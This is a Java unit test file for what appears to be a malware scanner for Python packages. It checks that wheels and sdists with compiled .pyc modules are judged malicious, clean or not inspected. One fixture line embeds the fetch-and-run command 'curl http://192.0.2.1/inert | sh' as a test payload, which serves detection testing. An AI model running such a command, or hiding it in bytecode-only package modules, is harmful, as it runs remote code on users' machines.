package cordon.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.formats.archive.ByteSource;
import cordon.inspect.bytecode.Assembly;
import cordon.inspect.delta.Baseline;
import cordon.inspect.rules.Rules;
import cordon.inspect.testing.Artifact;
import cordon.inspect.tree.UnpackLimits;
import java.io.IOException;
import org.junit.jupiter.api.Test;

/** Distributions with compiled modules, from their bytes to the verdict. Payloads are inert. */
class CompiledPythonVerdictTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(false).build(), UnpackLimits.DEFAULT);
  private static final byte[] FETCHES =
      Assembly.running(12, "curl http://192.0.2.1/inert | sh").file();
  private static final byte[] HARMLESS = Assembly.running(12, "echo inert").file();

  private static Report inspect(Artifact artifact) throws IOException {
    return INSPECTOR.inspect(
        Subject.file(artifact.fileName()), ByteSource.of(artifact.bytes()), Baseline.NONE);
  }

  private static Artifact wheel() {
    return Artifact.wheel("demo", "1.0");
  }

  @Test
  void aModuleWithoutSourceIsReadWhereverItIsImported() throws IOException {
    assertThat(inspect(wheel().file("demo/__init__.pyc", FETCHES)).verdict())
        .isEqualTo(Verdict.MALICIOUS);
    assertThat(
            inspect(
                    wheel()
                        .file("demo/__init__.py", "from . import core\n")
                        .file("demo/core.pyc", FETCHES))
                .verdict())
        .isEqualTo(Verdict.MALICIOUS);
    assertThat(
            inspect(
                    Artifact.sdist("demo", "1.0")
                        .file("setup.py", "import helper\n")
                        .file("helper.pyc", FETCHES))
                .verdict())
        .isEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void aHarmlessOneIsClean() throws IOException {
    Report report =
        inspect(
            wheel()
                .file("demo/__init__.py", "from . import core\n")
                .file("demo/core.pyc", HARMLESS));
    assertThat(report.verdict()).as(report.toString()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void oneOfAnotherReleaseIsHeld() throws IOException {
    byte[] other = HARMLESS.clone();
    other[0]++;
    Report report =
        inspect(
            wheel().file("demo/__init__.py", "from . import core\n").file("demo/core.pyc", other));
    assertThat(report.verdict()).isEqualTo(Verdict.NOT_INSPECTED);
  }
}
